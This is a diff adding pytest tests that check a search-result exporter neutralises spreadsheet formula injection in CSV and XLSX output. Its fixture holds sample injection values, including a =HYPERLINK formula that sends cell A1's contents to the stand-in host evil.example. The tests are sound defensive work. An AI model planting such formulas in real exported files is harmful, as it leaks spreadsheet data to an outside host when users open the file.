@@ -72,3 +72,40 @@ def test_xlsx(hits, tmp_path):
 def test_unknown_format_is_a_plain_error(hits, tmp_path):
     with pytest.raises(SearchError, match="use a .csv"):
         export(hits, tmp_path / "results.pdf")
+
+
+HOSTILE = {"account_name": "-2+3 发布", "title": '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
+           "text": "@SUM(1,2) 档案管理"}
+
+
+@pytest.fixture
+def hostile_hits(tmp_path):
+    post = IndexedPost(platform="weibo", account_id="2803301701", post_id="p9", version=1,
+                       url="https://weibo.com/2803301701/p9",
+                       published_at=dt.datetime(2024, 3, 9, 9, 0, tzinfo=CST),
+                       captured_at=dt.datetime(2024, 4, 1, tzinfo=dt.UTC), warc_file="w.warc.gz",
+                       warc_record_id="<urn:uuid:9>", payload_sha256="9" * 64, **HOSTILE)
+    with open_index("sqlite", tmp_path / "h.sqlite") as index:
+        index.upsert([post])
+        return list(index.scan("档案管理"))
+
+
+def test_csv_cells_that_would_be_formulas_start_with_a_quote(hostile_hits, tmp_path):
+    path = tmp_path / "results.csv"
+    export(hostile_hits, path)
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["title"] == "'" + HOSTILE["title"] and row["account_name"] == "'-2+3 发布"
+    assert row["snippet"].startswith("'@SUM(1,2)")
+    assert row["url"] == "https://weibo.com/2803301701/p9"  # ordinary text is left alone
+
+
+def test_xlsx_holds_no_formula_and_text_is_typed_as_text(hostile_hits, tmp_path):
+    path = tmp_path / "results.xlsx"
+    export(hostile_hits, path)
+    sheet = load_workbook(path)["results"]  # not read-only: cells keep their data type
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = dict(zip(COLUMNS, [c.value for c in cells[len(COLUMNS):]], strict=True))
+    assert values["title"] == "'" + HOSTILE["title"] and values["account_name"] == "'-2+3 发布"
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
